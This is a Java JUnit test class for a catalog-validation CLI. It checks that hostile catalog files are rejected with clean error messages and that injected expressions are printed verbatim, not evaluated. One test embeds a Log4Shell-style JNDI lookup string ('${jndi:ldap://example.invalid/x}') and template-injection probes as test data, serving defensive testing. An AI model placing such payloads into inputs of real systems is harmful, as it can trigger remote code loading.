package cat.xmess.examples.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cat.xmess.catalog.ErrorCode;
import cat.xmess.catalog.hostile.HostileInputs;
import cat.xmess.model.WireCode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Every hostile input of the catalog module's corpus through {@code xmess validate} and {@code
 * --catalog}: exit code 1, the expected error code at the expected JSON Pointer, no stack trace
 * (checked by {@link Cli#run} on every run). Time and heap are bounded in {@link
 * HostileInputBoundsTest}.
 */
class HostileCatalogCliTest {
  @TempDir Path dir;

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("cat.xmess.catalog.hostile.HostileInputs#all")
  void validateAndCatalogOptionRefuseEachHostileInput(HostileInputs.Case hostile) {
    Path file = hostile.writeTo(dir.resolve(hostile.fileName()));

    JsonNode json = Cli.run("validate", file.toString(), "--format", "json").expectExit(1).json();
    assertTrue(matchesCase(hostile, json.get("errors")), () -> hostile + ": " + json);

    Cli.Result text = Cli.run("validate", file.toString(), "--lang", "en").expectExit(1);
    assertTrue(text.out().lines().anyMatch(line -> line.contains("[" + firstCode(json) + "]")), text::out);

    Cli.Result search = Cli.run("search", "habitatge", "--catalog", file.toString()).expectExit(1);
    assertTrue(search.out().isEmpty(), search::out);
    assertTrue(search.err().startsWith("xmess: invalid catalog " + file), search::err);
    assertTrue(search.err().contains("[" + firstCode(json) + "]"), search::err);
    Cli.run("stats", "--catalog", file.toString()).expectExit(1);
  }

  private static boolean matchesCase(HostileInputs.Case hostile, JsonNode errors) {
    for (JsonNode error : errors) {
      ErrorCode code = WireCode.parse(ErrorCode.class, error.get("code").asString());
      if (hostile.codes().contains(code)
          && HostileInputs.isAtOrBelow(error.get("pointer").asString(), hostile.pointer())) {
        return true;
      }
    }
    return false;
  }

  private static String firstCode(JsonNode json) {
    return json.get("errors").get(0).get("code").asString();
  }

  @Test
  void aMissingCatalogIsOneLine() {
    Path missing = dir.resolve("absent.json");
    Cli.Result result = Cli.run("search", "x", "--catalog", missing.toString()).expectExit(1);
    assertEquals(List.of("xmess: catalog file not found: " + missing), result.errLines());
  }

  @Test
  void aDirectoryAsCatalogIsOneLine() {
    Cli.Result result = Cli.run("stats", "--catalog", dir.toString()).expectExit(1);
    assertEquals(List.of("xmess: catalog file is not a regular file: " + dir), result.errLines());
  }

  /** See the catalog module's HostileFilesTest: as root, chmod 000 does not stop reading. */
  @Test
  void anUnreadableFileIsReportedWithoutATrace() throws IOException {
    Path locked = Files.writeString(dir.resolve("locked.json"), "{}");
    if (Files.getFileStore(locked).supportsFileAttributeView("posix")) {
      Files.setPosixFilePermissions(locked, PosixFilePermissions.fromString("---------"));
    }
    if (!Files.isReadable(locked)) {
      assertEquals(List.of("xmess: file cannot be read: " + locked),
          Cli.run("validate", locked.toString()).expectExit(1).errLines());
      return;
    }
    Path unreadable = Path.of("/proc/self/mem");
    org.junit.jupiter.api.Assumptions.assumeTrue(Files.exists(unreadable), "no unreadable file available");
    JsonNode json = Cli.run("validate", unreadable.toString(), "--format", "json").expectExit(1).json();
    assertEquals("io-error", firstCode(json));
    Cli.Result search = Cli.run("search", "x", "--catalog", unreadable.toString()).expectExit(1);
    assertTrue(search.err().contains("[io-error]"), search::err);
  }

  @Test
  void usageErrorsExitWithTwo() {
    Cli.run("validate", "a.json", "b.json").expectExit(2);
    Cli.run("search", "x", "--catalog").expectExit(2);
  }

  /** Expressions in a catalog's text are printed as they are, never evaluated. */
  @Test
  void expressionsInTextArePrintedVerbatim() throws IOException {
    String injected = "${7*7} #{7*7} ${jndi:ldap://example.invalid/x}";
    Path file = TestCatalogs.broken(dir, "injected.json", root -> {
      ObjectNode title = (ObjectNode) root.get("initiatives").get(0).get("title");
      title.put("ca", injected + " ca").put("es", injected + " es").put("en", injected + " en");
    });
    String id = Json.MAPPER.readTree(file.toFile()).get("initiatives").get(0).get("id").asString();

    JsonNode shown = Cli.run("show", id, "--catalog", file.toString(), "--format", "json").expectExit(0).json();
    assertTrue(shown.toString().contains(injected + " en") || shown.toString().contains(injected + " ca"),
        shown::toString);
    Cli.Result text = Cli.run("show", id, "--catalog", file.toString(), "--lang", "en").expectExit(0);
    assertTrue(text.out().contains(injected), text::out);

    Path badId = TestCatalogs.broken(dir, "injected-id.json",
        root -> ((ObjectNode) root.get("initiatives").get(0)).put("id", "${7*7}#{7*7}"));
    Cli.Result refused = Cli.run("validate", badId.toString(), "--lang", "en").expectExit(1);
    assertTrue(refused.out().contains("/initiatives/0/id [invalid-format] The value \"${7*7}#{7*7}\""), refused::out);
  }
}
